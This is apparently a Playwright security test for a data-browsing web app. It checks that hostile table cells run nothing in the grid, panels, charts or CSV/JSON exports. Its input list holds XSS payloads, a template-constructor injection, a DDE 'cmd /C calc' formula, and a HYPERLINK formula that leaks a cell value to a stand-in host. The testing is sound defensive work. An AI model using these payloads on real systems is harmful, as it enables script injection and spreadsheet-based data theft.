import { readFileSync } from "node:fs";
import type { Page } from "@playwright/test";
import { expect, test } from "../harness/test.ts";
import { isLong } from "../steps/long-runs.ts";
import { beSignedIn } from "../steps/be-signed-in.ts";

/** A megabyte: `npm run bench -- long-journeys`. */
const LARGE = (isLong ? 1024 : 128) * 1024;
const DEEP = 2_000;
const RIGHT_TO_LEFT_MARK = "\u202e";

/** What a person can put into a text column. */
const TEXTS: readonly (string | null)[] = [
  `<img src=x onerror="globalThis.pwned = 1"><script>globalThis.pwned = 1</script>`,
  "javascript:globalThis.pwned=1",
  "https://example.org/\"onmouseover=globalThis.pwned=1 x='",
  `=HYPERLINK("https://example.org?leak="&A1,"click")`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "cut;=1+1",
  "שלום עולם, مرحبا",
  `${RIGHT_TO_LEFT_MARK}txt.exe`,
  "a\u200bb\u200dc\ufeff",
  'quoted "twice", with, commas\r\nand lines',
  '\\N \\\\ \\" \t',
  "{{constructor.constructor('globalThis.pwned=1')()}}",
  "x".repeat(LARGE),
  "",
  "null",
  null,
];

const column = (name: string, type: string) => ({ name, type, nullable: true });
const NAME = `<b onclick="pwned=1">hostile</b>`;
const TABLE = {
  name: NAME,
  kind: "table",
  comment: "<script>globalThis.pwned = 1</script>",
  columns: [
    { ...column("id", "bigint"), nullable: false },
    column("cell", "text"),
    column("deep", "jsonb"),
    column("<i>name</i>", "text[]"),
  ],
  primaryKey: ["id"],
};
const deep = `${'{"a":'.repeat(DEEP)}"</script>"${"}".repeat(DEEP)}`;
const ROWS = TEXTS.map(
  (cell, at) =>
    `{"id":${at + 1},"cell":${JSON.stringify(cell)},"deep":${deep},"<i>name</i>":["<u>x</u>",null,"=1+1"]}`,
);
const inCsv = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const CSV = [
  "id,cell,deep,<i>name</i>",
  ...TEXTS.map(
    (cell, at) => `${at + 1},${cell === null ? "" : inCsv(cell)},${inCsv(deep)},"{<u>x</u>,NULL,=1+1}"`,
  ),
].join("\n");

/** A table beside the seeded ones, as a project of somebody else might hold it; answered at the network's edge. */
async function plantHostileTable(page: Page): Promise<void> {
  await page.route("**/rest/v1/rpc/foyer_catalogue*", async (route) => {
    const response = await route.fetch();
    const catalogue = (await response.json()) as { tables?: unknown[] };
    // "The same as before" has no tables.
    if (catalogue.tables === undefined) await route.fulfill({ response });
    else await route.fulfill({ response, json: { ...catalogue, tables: [...catalogue.tables, TABLE] } });
  });
  await page.route("**/rest/v1/rpc/foyer_summary*", async (route) => {
    const groups = TEXTS.map((text) => [text, "1"]);
    const total = [String(TEXTS.length)];
    await route.fulfill({
      headers: { "access-control-allow-origin": "*" },
      json: { version: 1, groups, count: groups.length, total, remainder: ["0"] },
    });
  });
  await page.route(`**/rest/v1/${encodeURIComponent(NAME)}*`, async (route) => {
    const request = route.request();
    const query = new URL(request.url()).searchParams;
    const key = /^eq\.(\d+)$/.exec(query.get("id") ?? "")?.[1];
    const isPast = query.get("id")?.startsWith("gt.") === true || query.has("offset");
    const rows = isPast ? [] : key === undefined ? ROWS : ROWS.slice(Number(key) - 1, Number(key));
    const headers = {
      "access-control-allow-origin": "*",
      "access-control-expose-headers": "content-range",
      "content-range": rows.length === 0 ? `*/${ROWS.length}` : `0-${rows.length - 1}/${ROWS.length}`,
    };
    if (query.get("select")?.includes("count()") === true) {
      const refusal = { code: "PGRST123", message: "Use of aggregate functions is not allowed" };
      await route.fulfill({ status: 400, headers, json: refusal });
      return;
    }
    const isCsv = request.headers()["accept"]?.includes("csv") === true;
    await route.fulfill({
      headers,
      contentType: isCsv ? "text/csv" : "application/json",
      body: isCsv ? (isPast ? "" : CSV) : `[${rows.join(",")}]`,
    });
  });
}

const wasRun = (page: Page): Promise<boolean> => page.evaluate(() => "pwned" in globalThis);

test("hostile cells run nothing and break nothing in any view or export", async ({
  page,
  admin,
  allowConsole,
}) => {
  test.slow();
  // That the service doesn't aggregate is found out by asking.
  allowConsole(/400/);
  await page.addInitScript(() => {
    Object.defineProperty(globalThis, "showSaveFilePicker", { value: undefined });
  });
  await plantHostileTable(page);
  // All its rows are on the screen at once.
  await page.setViewportSize({ width: 1280, height: 960 });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await beSignedIn(page, await admin.createUser(), "/data");
  await page.getByRole("link", { name: NAME }).click();
  const grid = page.getByRole("grid");
  await expect(grid.getByRole("gridcell", { name: /^<img src=x/ })).toBeVisible();
  await expect(grid.getByRole("row")).toHaveCount(ROWS.length + 1);
  expect(await grid.locator("img, script, b, i, u").count()).toBe(0);
  expect(await grid.getByRole("link").count()).toBe(0);

  for (const [at, text] of TEXTS.entries()) {
    await page.goto(`/data/${encodeURIComponent(NAME)}?row=${at + 1}`);
    // Its title is the cell, so the key stands below.
    const panel = page.getByRole("complementary");
    await expect(panel.getByText(`Row ${at + 1}`, { exact: true })).toBeVisible();
    await expect(panel.getByText("cell", { exact: true })).toBeVisible();
    if (text !== null && text.trim() !== "" && text.length < 100)
      await expect(panel.locator("dd").nth(1)).toContainText(text.trim().split(/\s/)[0] ?? "");
    expect(await panel.locator("img, script, u").count()).toBe(0);
  }

  await page.goto(`/data/${encodeURIComponent(NAME)}?filter=cell.eq.${encodeURIComponent(TEXTS[0] ?? "")}`);
  await expect(page.getByRole("list", { name: "Filters that hold" })).toContainText("cell is <img src=x");
  await page.goto(`/data/${encodeURIComponent(NAME)}`);
  await expect(grid.getByRole("gridcell", { name: /^<img src=x/ })).toBeVisible();
  await grid.getByRole("gridcell", { name: /^<img src=x/ }).click({ button: "right" });
  await expect(page.getByRole("menu")).toBeVisible();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Find" }).click();
  await page.getByRole("searchbox").or(page.getByRole("textbox")).last().fill("<img");
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: "Close" }).first().click();

  await page.getByRole("button", { name: "Chart" }).click();
  const chart = page.getByRole("dialog", { name: /^Chart of/ });
  await chart.getByLabel("Column").selectOption("cell");
  await expect(chart.getByRole("status")).toContainText(/rows/);
  await chart.getByText("The same as a table").click();
  await expect(chart.getByRole("table")).toContainText("<img src=x");
  expect(await chart.locator("img, script").count()).toBe(0);
  await page.keyboard.press("Escape");

  for (const format of [/CSV, exactly/, /CSV for spreadsheets/, /JSON lines/]) {
    await page.getByRole("button", { name: "Export", exact: true }).click();
    const dialog = page.getByRole("dialog", { name: /^Export/ });
    await dialog.getByRole("radio", { name: format }).check();
    const downloading = page.waitForEvent("download");
    await dialog.getByRole("button", { name: "Start export" }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).not.toMatch(/[<>"=]/);
    const text = readFileSync(await download.path(), "utf8");
    expect(text.length).toBeGreaterThan(LARGE);
    // In the file for spreadsheets no cell begins as a formula does, whatever separates the cells.
    if (format.source.includes("spreadsheets")) {
      expect(text).not.toMatch(/(?:^|[,;\n])"?[=@]/);
      expect(text).toContain("cut;'=1+1");
    }
    await expect(dialog.getByText("The export is complete", { exact: false })).toBeVisible({
      timeout: 60_000,
    });
    await page.keyboard.press("Escape");
  }
  expect(await wasRun(page)).toBe(false);
  expect(dialogs).toEqual([]);
});
